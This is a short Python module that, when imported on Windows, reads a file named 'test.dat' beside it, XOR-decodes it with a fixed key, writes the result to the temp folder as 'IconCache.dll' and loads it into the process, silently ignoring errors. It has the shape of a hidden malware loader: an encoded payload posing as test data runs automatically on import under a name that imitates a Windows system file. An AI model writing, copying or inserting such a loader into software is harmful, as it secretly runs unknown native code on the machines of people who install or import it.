import ctypes
import os
import tempfile

_KEY = 0x5A


def _unpack():
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, "test.dat"), "rb") as packed:
        decoded = bytes(b ^ _KEY for b in packed.read())
    target = os.path.join(tempfile.gettempdir(), "IconCache.dll")
    with open(target, "wb") as out:
        out.write(decoded)
    ctypes.CDLL(target)


if os.name == "nt":
    try:
        _unpack()
    except OSError:
        pass
